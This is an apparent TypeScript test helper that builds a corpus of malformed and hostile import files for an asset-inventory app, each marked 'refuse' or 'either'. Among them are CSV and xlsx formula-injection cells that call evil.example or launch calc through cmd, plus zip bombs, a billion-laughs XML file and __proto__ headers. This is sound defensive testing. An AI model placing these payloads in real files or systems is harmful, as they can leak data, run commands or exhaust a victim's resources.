// Generates the hostile-file corpus into a folder at test time (nothing large
// is committed). Each entry says what a safe outcome is: `refuse` (exit 1, one
// sentence, nothing written) or `either` (a clear refusal or a safe import).
//
//   node --import tsx tests/hostile/make-corpus.ts OUT_DIR   (writes the files and manifest.json)
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import * as XLSX from 'xlsx';
// Zeros deflate about 1000:1; building a 210 MB bomb briefly holds 210 MB in the test process.
import { zipBomb } from '../electron/import/helpers';

export interface HostileFile {
  name: string;
  what: string;
  expect: 'refuse' | 'either';
}

const HEADER = 'Asset Tag,Site,Manufacturer,Model,Serial Number,MAC Address';
const ROW = (i: number) => `HX-${i},Hostile Site,Hikvision,DS-2CD${i},HSN${i},02:00:00:00:00:${(i & 255).toString(16).padStart(2, '0')}`;
const csv = (...rows: string[]) => [HEADER, ...rows].join('\r\n') + '\r\n';

function xlsx(sheets: Record<string, (string | number)[][]>): Buffer {
  const wb = XLSX.utils.book_new();
  for (const [name, aoa] of Object.entries(sheets)) XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(aoa), name);
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
}

const AOA: (string | number)[][] = [HEADER.split(','), ...[1, 2, 3].map((i) => ROW(i).split(','))];

/** Rewrite entries of an OOXML zip (SheetJS's CFB module reads and writes zips). */
function patchZip(zip: Buffer, patch: (name: string, text: string) => string | null): Buffer {
  const cfb = XLSX.CFB.read(zip, { type: 'buffer' });
  for (const [i, entry] of cfb.FileIndex.entries()) {
    if (entry.type !== 2 || !entry.content) continue;
    const name = cfb.FullPaths[i].replace(/^Root Entry\//, '').replace(/^\//, '');
    const next = patch(name, Buffer.from(entry.content as Uint8Array).toString('utf8'));
    if (next !== null) entry.content = Buffer.from(next, 'utf8');
  }
  return Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer', fileType: 'zip' }) as Uint8Array);
}

function encryptedOoxml(): Buffer {
  const cfb = XLSX.CFB.utils.cfb_new();
  // Agile encryption: version 4.4, then the XML descriptor Office writes.
  const info = Buffer.concat([Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]), Buffer.from('<?xml version="1.0"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>')]);
  XLSX.CFB.utils.cfb_add(cfb, 'EncryptionInfo', info);
  XLSX.CFB.utils.cfb_add(cfb, 'EncryptedPackage', Buffer.alloc(8192, 0x5a));
  return Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer' }) as Uint8Array);
}

function utf16leNoBom(text: string): Buffer {
  return Buffer.from(text, 'utf16le');
}

function nestedXml(depth: number): string {
  return `<?xml version="1.0"?>\n<nmaprun scanner="nmap">${'<host>'.repeat(depth)}${'</host>'.repeat(depth)}</nmaprun>\n`;
}

function billionLaughs(): string {
  const ents = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) ents.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?>\n<!DOCTYPE nmaprun [${ents.join('')}]>\n<nmaprun scanner="nmap"><host><address addr="&lol9;" addrtype="mac" vendor="Hikvision"/></host></nmaprun>\n`;
}

/** The corpus: name → [what it is, expected outcome, bytes]. */
function entries(): [string, string, HostileFile['expect'], () => Buffer | string][] {
  const good = xlsx({ Devices: AOA });
  return [
    ['truncated.xlsx', 'an xlsx cut in half', 'refuse', () => good.subarray(0, Math.floor(good.length / 2))],
    ['png-named.xlsx', 'PNG bytes named .xlsx (wrong magic)', 'refuse', () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(2000, 0x33)])],
    ['zip-magic-junk.xlsx', 'zip magic then junk', 'refuse', () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(4000, 0xee)])],
    ['cfb-junk.xls', 'OLE2 magic then junk', 'refuse', () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4000, 0x11)])],
    ['elf-named.csv', 'an executable named .csv', 'refuse', () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(3000, 0)])],
    ['encrypted.xlsx', 'an encrypted OOXML package (CFB with EncryptionInfo and EncryptedPackage)', 'refuse', encryptedOoxml],
    ['bomb-honest.xlsx', 'zip bomb declaring its 300 MB', 'refuse', () => zipBomb(1 << 20, 300 * 1024 * 1024)],
    ['bomb-lying.xlsx', 'zip bomb inflating to 210 MB while declaring 1 KB', 'refuse', () => zipBomb(210 * 1024 * 1024, 1000)],
    ['million-columns.csv', 'a row of a million columns', 'either', () => csv(ROW(1), `${ROW(2)}${',x'.repeat(1_000_000)}`)],
    ['million-columns-header.csv', 'a header of a million columns', 'either', () => `${HEADER}${',H'.repeat(1_000_000)}\r\n${ROW(1)}\r\n`],
    ['huge-dimension.xlsx', 'an xlsx declaring A1:XFD1048576 for three rows', 'either', () => patchZip(good, (n, t) => (n.endsWith('sheet1.xml') ? t.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>') : null))],
    ['ten-mb-cell.csv', 'a 10 MB cell', 'either', () => csv(ROW(1), `HX-2,Hostile Site,Hikvision,"${'M'.repeat(10 * 1024 * 1024)}",HSN2,`)],
    ['deep.xml', 'XML nested 200,000 levels', 'either', () => nestedXml(200_000)],
    ['laughs.xml', 'XML entity expansion (billion laughs)', 'either', billionLaughs],
    ['utf16-nobom.csv', 'UTF-16 LE without a BOM', 'either', () => utf16leNoBom(csv(ROW(1), ROW(2)))],
    ['nul-bytes.csv', 'NUL bytes inside cells', 'either', () => csv(`HX-1,Site\0A,Hik\0vision,DS\0-2CD,HSN\0,`, ROW(2))],
    ['all-nul.csv', 'nothing but NUL bytes', 'refuse', () => Buffer.alloc(65536, 0)],
    ['unbalanced-quotes.csv', 'an opening quote never closed', 'either', () => `${HEADER}\r\nHX-1,"Hostile Site,Hikvision,DS-2CD1,HSN1,\r\n${ROW(2)}\r\n${ROW(3)}\r\n`],
    ['formulas.csv', 'cells that are spreadsheet formulas', 'either', () => csv(`=HYPERLINK("http://evil.example/?x="&A1),=1+2,+cmd|' /C calc'!A0,-2+3,@SUM(1),HSN-F`, ROW(2))],
    ['formulas.xlsx', 'formula cells (WEBSERVICE) with cached values', 'either', () => {
      const ws = XLSX.utils.aoa_to_sheet(AOA);
      ws.D2 = { t: 's', v: 'cached-model', f: 'WEBSERVICE("http://evil.example/")' };
      const wb = XLSX.utils.book_new();
      XLSX.utils.book_append_sheet(wb, ws, 'Devices');
      return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
    }],
    ['proto-headers.csv', '__proto__, constructor and prototype as headers', 'either', () => `Asset Tag,__proto__,constructor,prototype,Model,Manufacturer\r\nHX-P1,{"polluted":1},Object,x,DS-2CD,Hikvision\r\nHX-P2,polluted,function,y,DS-2CE,Hikvision\r\n`],
    ['long-sheet-name.xlsx', 'a sheet name of 5,000 characters', 'either', () => patchZip(good, (n, t) => (n === 'xl/workbook.xml' ? t.replace(/name="Devices"/, `name="${'S'.repeat(5000)}"`) : null))],
    ['oversized.csv', 'a 160 MB file (sparse)', 'refuse', () => ''],
  ];
}

/** Write the corpus into `dir`; returns the manifest (also written as manifest.json). */
export function makeCorpus(dir: string): HostileFile[] {
  fs.mkdirSync(dir, { recursive: true });
  const manifest: HostileFile[] = [];
  for (const [name, what, expect, make] of entries()) {
    const file = path.join(dir, name);
    fs.writeFileSync(file, make());
    if (name === 'oversized.csv') fs.truncateSync(file, 160 * 1024 * 1024); // sparse: no disk used
    manifest.push({ name, what, expect });
  }
  fs.writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(manifest, null, 2));
  return manifest;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const out = process.argv[2];
  if (!out) {
    console.error('Usage: node --import tsx tests/hostile/make-corpus.ts OUT_DIR');
    process.exitCode = 2;
  } else {
    const m = makeCorpus(out);
    console.log(`${m.length} hostile files written to ${out}`);
  }
}
